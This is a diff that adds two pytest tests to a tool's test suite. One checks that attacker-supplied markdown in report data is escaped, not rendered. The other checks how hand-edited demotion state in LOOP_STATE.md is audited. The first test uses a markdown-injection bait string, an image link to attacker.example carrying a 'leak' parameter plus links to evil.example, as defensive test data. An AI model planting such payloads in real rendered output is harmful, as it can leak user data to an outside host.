@@ -315,3 +315,34 @@ def test_f9_a_verdict_waits_for_the_run_to_finish(loop_repo: Path) -> None:
         if holder.stdout is not None:
             holder.stdout.close()
     assert run(loop_repo.parent, "review", item, "accept", "--loop", ".loop").returncode == 0
+
+
+def test_f16_markdown_from_report_data_is_shown_not_rendered(loop_repo: Path) -> None:
+    import mistune
+
+    paths = write_history(loop_repo, [Week(days=2)])
+    bait = "![x](https://attacker.example/p.png?leak=1) [click](https://evil.example) a|b"
+    edit(paths[0], lambda d: d["items"][0]["attempts"][0]["gates"][0].update(gate=bait))
+    edit(paths[1], lambda d: d["stop"].update(reason="[stop](https://evil.example)"))
+    md = run(loop_repo.parent, "report", ".loop", "--format", "markdown").stdout.decode()
+    page = str(mistune.create_markdown(plugins=["table"])(md))
+    assert "<img" not in page and "<a " not in page and "<table>" in page
+    assert "![x](https://attacker.example/p.png?leak=1) [click](https://evil.example) a|b" in page  # as written
+
+
+def test_f18_a_hand_edited_demotion_is_understood_or_said(loop_repo: Path) -> None:
+    _bad_draft_week(loop_repo)
+    assert audit(str(loop_repo), run_checks=False, now=NOW).recorded
+    state = loop_repo / "LOOP_STATE.md"
+    recorded = state.read_text("utf-8")
+    state.write_text(recorded.replace("- demoted_to: shadow", "- demoted_to: Shadow"), encoding="utf-8")
+    again = audit(str(loop_repo), run_checks=False, now=NOW + dt.timedelta(days=1))
+    assert not again.demoted_now and again.demotion is not None and again.demotion.to == "shadow"
+    state.write_text(recorded.replace("- demoted_to: shadow", "- demoted_to: sandbox"), encoding="utf-8")
+    odd = audit(str(loop_repo), run_checks=False, write=False, now=NOW)
+    assert any("demoted_to 'sandbox' is not shadow, draft-pr or pr" in p for p in odd.problems)
+    at = next(line for line in recorded.splitlines() if line.startswith("- demoted_at: ")).split(": ", 1)[1]
+    lifted = "".join(line + "\n" for line in recorded.splitlines() if not line.startswith("- demoted_"))
+    state.write_text(lifted.replace("## Items", f"- last_demoted_at: {at}\n\n## Items", 1), encoding="utf-8")
+    by_hand = audit(str(loop_repo), run_checks=False, write=False, now=NOW)
+    assert by_hand.demotion is None and not by_hand.demoted_now  # the README's way to lift one by hand
